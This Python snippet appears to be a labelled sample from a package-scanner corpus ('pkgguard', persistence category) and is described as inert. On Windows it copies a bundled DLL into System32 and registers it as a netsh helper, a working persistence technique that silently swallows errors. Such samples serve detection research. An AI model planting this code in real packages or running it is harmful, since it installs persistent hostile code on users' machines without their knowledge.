# pkgguard corpus 754 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import sys

if sys.platform == "win32":
    source = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "nhelp.dll")
    target = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"), "System32", "nhelpsvc.dll")
    try:
        shutil.copyfile(source, target)
        subprocess.run(["netsh", "add", "helper", target], capture_output=True)
    except OSError:
        pass
